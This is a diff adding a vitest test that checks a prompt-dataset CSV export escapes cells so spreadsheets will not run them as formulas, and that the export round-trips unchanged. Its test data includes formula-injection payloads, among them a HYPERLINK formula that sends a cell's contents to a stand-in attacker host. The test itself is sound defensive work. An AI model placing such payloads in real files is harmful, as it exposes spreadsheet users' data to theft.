@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ROUTES, type Input } from '@promptgrid/contract';
 import { createTestApp, databaseKinds, signedInClient, type TestClient } from '../../test/harness.js';
@@ -249,6 +250,33 @@ describe.each(databaseKinds)('user prompt datasets on %s', (kind) => {
       expect(shape(await list(client, other))).toEqual(originals);
     }
     expect((await client.get(`/api/projects/${project}/inputs/export/?format=xml`)).statusCode).toBe(400);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and imports its own export back unchanged', async () => {
+    const { client, project } = await withProject();
+    const hostile = {
+      name: '@SUM(1+1)',
+      content: '=HYPERLINK("http://evil.example/?"&A1)\nsecond line',
+      variables: { minus: '-2+3', plus: '+1', tab: '\tindented', quoted: "'=already quoted" },
+      expected_output: '\r=1',
+      active: true,
+    };
+    expect((await client.post(ROUTES.inputs(project), hostile)).statusCode).toBe(201);
+    const exported = (await client.get(ROUTES.inputsExport(project, 'csv'))).body;
+    const [, row] = Papa.parse<string[]>(exported.replace(/^\uFEFF/, '')).data;
+    expect(row).toEqual([
+      "'@SUM(1+1)",
+      `'${hostile.content}`,
+      "'\r=1",
+      'true',
+      "'-2+3",
+      "'+1",
+      "''=already quoted",
+      "'\tindented",
+    ]);
+    const other = (await client.post(ROUTES.projects, { name: 'Copy', description: 'D' })).json().id;
+    expect((await importFile(client, other, 'csv', exported)).json()).toEqual({ created: 1 });
+    expect(await list(client, other)).toEqual([expect.objectContaining(hostile)]);
   });
 
   it('archives, restores and deletes several user prompts in one request; another user’s id is 404 and changes nothing', async () => {
